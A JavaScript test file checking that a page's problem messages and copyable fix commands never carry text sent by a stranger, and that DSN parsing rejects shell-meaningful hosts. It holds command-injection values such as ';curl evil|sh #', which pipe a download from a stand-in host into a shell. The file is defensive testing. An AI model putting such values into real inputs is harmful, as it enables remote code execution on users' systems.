/** What is said of a problem, and that nothing which a stranger sent gets into it. */

import assert from "node:assert/strict";
import { test } from "node:test";
import { english, messages } from "./english.mjs";
import { evidenceOf, summaryOf, worded } from "./static/core/problems.js";
import { fill, parseDsn } from "./static/core/snippets.js";
import { Words } from "./static/core/words.js";

const KEY = "0123456789abcdef0123456789abcdef";
const EVIL = ";curl evil|sh #";
const sent = (fields) => ({
  code: "wrong_path",
  severity: "error",
  summary: "From the server.",
  hint: "Its hint.",
  fix: "its fix",
  evidence: {},
  count: 3,
  resolved: false,
  ...fields,
});
const speaking = (problems) => new Words({ ...messages, problems }, "en");

test("without words of its own the page says what the server said", () => {
  const problem = sent();
  assert.deepEqual(worded(problem, speaking(undefined)), problem);
  assert.deepEqual(worded(problem, speaking({})), problem);
  assert.deepEqual(worded(problem, speaking({ silence: { summary: "S.", hint: "H." } })), problem);
});

test("the page's words come first, and the fix is the server's", () => {
  const said = worded(sent(), speaking({ wrong_path: { summary: "S.", hint: "H." } }));
  assert.deepEqual([said.summary, said.hint, said.fix], ["S.", "H.", "its fix"]);
});

test("checks are said by their names, and as the server says them where they have none here", () => {
  const words = speaking({ silence: { summary: "S.", hint: "H.", checks: { exit: "Flush within {waited}." } } });
  const problem = sent({ code: "silence", checks: ["a", "b", "c"], check_names: ["exit", "python", null] });
  assert.deepEqual(worded({ ...problem, evidence: { waited: "20 s" } }, words).checks, [
    "Flush within 20 s.",
    "b",
    "c",
  ]);
  assert.deepEqual(worded({ ...problem, check_names: undefined }, words).checks, ["a", "b", "c"]);
});

test("what the server measured fills a gap, and a count chooses the form", () => {
  const words = speaking({
    quiet: { summary: { one: "Missed one.", other: "Missed {count}." }, hint: "One every {interval}." },
  });
  const said = (count) => worded(sent({ code: "quiet", evidence: { interval: "30 s" }, count }), words);
  assert.deepEqual([said(1).summary, said(3).summary, said(3).hint], ["Missed one.", "Missed 3.", "One every 30 s."]);
});

test("what a stranger sent is in no sentence and no fix, whatever the words ask for", () => {
  const words = speaking({ wrong_path: { summary: "It went to {path}.", hint: "Not {origin}." } });
  const evidence = { path: EVIL, origin: EVIL, count: EVIL, dsn: EVIL };
  const problem = sent({ evidence, fix: "ALLOW={origin} {path} {{dsn}}" });
  const { summary, hint, fix } = worded(problem, words);
  const copied = fill(fix, parseDsn(`http://${KEY}@host:8000/1`));
  for (const text of [summary, hint, fix, copied]) assert.ok(!text.includes("evil"), text);
  assert.equal(copied, `ALLOW={origin} {path} http://${KEY}@host:8000/1`);
  assert.ok(evidenceOf(problem, words).some(([, text]) => text === EVIL));
});

test("a gap is filled once: what fills it may look like one", () => {
  const words = speaking({ quiet: { summary: "{sdk} and {what}", hint: "" } });
  const problem = sent({ code: "quiet", evidence: { sdk: "{what}", what: "x" } });
  assert.equal(worded(problem, words).summary, "{what} and x");
});

test("evidence shows the characters that would change how it reads", () => {
  const [[label, text, name]] = evidenceOf(sent({ evidence: { path: "a\u202Eb\u0000c\u2028d\u200Be\nf" } }), english);
  assert.deepEqual([label, name], ["Path", "path"]);
  assert.equal(text, "a\\u{202e}b\\u{0}c\\u{2028}d\\u{200b}e\nf");
});

test("what a sentence says already is not said again as evidence", () => {
  const [summary, hint] = ["Your SDK dropped 2 errors (before_send).", "It goes to /api/1/envelope/."];
  const evidence = {
    reason: "before_send",
    what: "2 errors",
    more: "1 log item (before_send)",
    expected: "/api/1/envelope/",
  };
  assert.deepEqual(
    evidenceOf(sent({ summary, hint, evidence }), english).map(([, , name]) => name),
    ["more"],
  );
  const asked = sent({
    hint: "Correct the field that is named below: only type is required.",
    evidence: { field: "type" },
  });
  assert.equal(evidenceOf(asked, english).length, 1);
});

test("what was answered is not repeated in parts", () => {
  const detail = "The envelope is damaged at byte 3: an item's length is 999.";
  const evidence = { detail, offset: "3", reason: "an item's length is 999", line: '{"length":999}' };
  assert.deepEqual(
    evidenceOf(sent({ evidence }), english).map(([, , name]) => name),
    ["detail", "line"],
  );
});

test("evidence is labelled, and long texts come last", () => {
  const rows = evidenceOf(sent({ evidence: { detail: "x".repeat(61), key: "…d2c3", last_seen: 3 } }), english);
  assert.deepEqual(
    rows.map(([label, , name]) => [label, name]),
    [
      ["Key sent", "key"],
      ["Last seen", "last_seen"],
      ["Detail", "detail"],
    ],
  );
});

test("a silence that is over is told as such", () => {
  const silence = { code: "silence", summary: "Nothing yet.", evidence: { waited: "20 s" } };
  assert.equal(summaryOf({ ...silence, resolved: true }, english), "Nothing arrived for 20 s, then something did.");
  assert.equal(
    summaryOf({ ...silence, resolved: true, evidence: null }, english),
    "Nothing arrived for a while, then something did.",
  );
  assert.equal(summaryOf({ ...silence, resolved: false }, english), "Nothing yet.");
});

test("a DSN is made of nothing that a shell would read", () => {
  const parsed = parseDsn(`https://${KEY}@firstlight.example.com:8443/onboard/7`);
  assert.equal(parsed.ingest, "https://firstlight.example.com:8443/onboard/api/7");
  assert.equal(parseDsn(`http://${KEY}@[::1]:8000/1`).server, "http://[::1]:8000");
  for (const host of ["h;curl evil|sh", "h$(x)", "h`x`", "h'x", 'h"x', "h x", "h\nx", "h/a;b", "h/a$b", "h&x"]) {
    assert.equal(parseDsn(`http://${KEY}@${host}/1`), null, host);
  }
});
